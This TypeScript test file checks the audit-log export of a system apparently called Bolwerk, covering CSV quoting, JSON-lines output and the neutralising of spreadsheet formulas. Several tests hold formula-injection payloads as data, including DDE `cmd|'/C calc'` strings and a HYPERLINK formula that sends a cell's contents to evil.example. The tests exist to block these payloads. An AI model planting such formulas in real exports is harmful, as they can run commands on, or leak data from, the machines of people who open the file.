import { describe, expect, it } from 'vitest';
import type { EntryRow } from './audit.store.js';
import { canonicalEntry, type EntryFields } from './entry.js';
import { CSV_COLUMNS, csvCell, csvHeader, formatRows } from './export-format.js';
import { leafHash } from './merkle/hashing.js';

// What leaves Bolwerk in an export: JSON lines and CSV. A CSV is opened in a spreadsheet by
// someone in compliance; a cell an attacker controls (a user agent) must never run as a formula.

/** RFC 4180 parsing, enough to check what a spreadsheet would see in each cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        cell += ch;
      }
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  if (quoted) throw new Error('unterminated quoted cell');
  if (cell !== '' || row.length > 0) throw new Error('last line does not end with CRLF');
  return rows;
}

function row(fields: Partial<EntryFields> & { seq: number }): EntryRow {
  const entry = canonicalEntry({
    at: Date.parse('2025-05-04T03:02:01.000Z'),
    actorType: 'staff',
    actorId: 'u1',
    action: 'contact.viewed',
    actionVersion: 1,
    targetType: 'contact',
    targetId: '7',
    outcome: 'success',
    requestId: 'req-1',
    sourceIp: '192.0.2.10',
    userAgent: 'Mozilla/5.0',
    details: { d: { reason: null } },
    ...fields,
  });
  return { seq: fields.seq, entry, leaf_hash: leafHash(entry).toString('hex') };
}

describe('csvCell', () => {
  it('quotes every cell and doubles the quotes inside', () => {
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell('')).toBe('""');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('line one\r\nline two')).toBe('"line one\r\nline two"');
    expect(csvCell(42)).toBe('"42"');
    expect(csvCell(0)).toBe('"0"');
  });

  it('leaves a missing value empty, apart from an empty string', () => {
    expect(csvCell(null)).toBe('');
  });

  it('neutralises a cell that a spreadsheet would run as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const value = `${start}cmd|'/C calc'!A0`;
      expect(csvCell(value), JSON.stringify(start)).toBe(`"'${value}"`);
    }
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`);
  });

  it('leaves formula characters alone when they are not the first character', () => {
    expect(csvCell('a=b')).toBe('"a=b"');
    expect(csvCell('user@example')).toBe('"user@example"');
    expect(csvCell('x-1')).toBe('"x-1"');
  });

  it('writes numbers as they are: a negative number is data, not a formula', () => {
    expect(csvCell(-5)).toBe('"-5"');
  });
});

describe('formatRows', () => {
  const rows = [
    row({ seq: 0 }),
    row({ seq: 1, actorType: 'system', actorId: null, targetType: null, targetId: null, requestId: null, sourceIp: null, userAgent: null }),
    row({ seq: 2, userAgent: "=cmd|'/C calc'!A0", details: { d: { note: 'say "hi", twice' }, p: { s: 'contact:42', c: 'c2VhbGVk' } } }),
  ];

  it('writes one JSON line per entry, each the entry as the API shows it', () => {
    const text = formatRows(rows, 'jsonl');
    expect(text.endsWith('\n')).toBe(true);
    const lines = text.trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines).toHaveLength(3);
    expect(lines[0]).toEqual({
      seq: 0,
      at: '2025-05-04T03:02:01.000Z',
      actor: { type: 'staff', id: 'u1' },
      action: 'contact.viewed',
      actionVersion: 1,
      target: { type: 'contact', id: '7' },
      outcome: 'success',
      requestId: 'req-1',
      sourceIp: '192.0.2.10',
      userAgent: 'Mozilla/5.0',
      details: { reason: null },
      personal: null,
      leafHash: Buffer.from((rows[0] as EntryRow).leaf_hash, 'hex').toString('base64'),
    });
    expect(lines[1]).toMatchObject({ actor: { type: 'system', id: null }, target: null, requestId: null });
    // The sealed personal detail is shown as its subject only, never its ciphertext.
    expect(lines[2]).toMatchObject({ personal: { subject: 'contact:42', sealed: true } });
    expect(text).not.toContain('c2VhbGVk');
  });

  it('writes nothing for no rows', () => {
    expect(formatRows([], 'jsonl')).toBe('');
    expect(formatRows([], 'csv')).toBe('');
  });

  it('writes one CSV line per entry under a header of the documented columns', () => {
    expect(csvHeader()).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
    const table = parseCsv(csvHeader() + formatRows(rows, 'csv'));
    expect(table).toHaveLength(4);
    expect(table[0]).toEqual([...CSV_COLUMNS]);
    for (const line of table) expect(line).toHaveLength(CSV_COLUMNS.length);
    const byColumn = (line: readonly string[]) => Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, line[i]]));
    expect(byColumn(table[1] as string[])).toEqual({
      seq: '0',
      at: '2025-05-04T03:02:01.000Z',
      actor_type: 'staff',
      actor_id: 'u1',
      action: 'contact.viewed',
      action_version: '1',
      target_type: 'contact',
      target_id: '7',
      outcome: 'success',
      request_id: 'req-1',
      source_ip: '192.0.2.10',
      user_agent: 'Mozilla/5.0',
      details: '{"reason":null}',
      personal_subject: '',
      leaf_hash: Buffer.from((rows[0] as EntryRow).leaf_hash, 'hex').toString('base64'),
    });
    expect(byColumn(table[2] as string[])).toMatchObject({ actor_type: 'system', actor_id: '', target_type: '', target_id: '', request_id: '', user_agent: '' });
    expect(byColumn(table[3] as string[])).toMatchObject({
      user_agent: "'=cmd|'/C calc'!A0",
      details: '{"note":"say \\"hi\\", twice"}',
      personal_subject: 'contact:42',
    });
  });

  it('neutralises a spreadsheet formula in an exported user agent', () => {
    const text = formatRows([row({ seq: 0, userAgent: '@SUM(1+1)*cmd|" /C calc"!A0' }), row({ seq: 1, userAgent: '+1' })], 'csv');
    for (const line of parseCsv(text)) {
      for (const cell of line) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
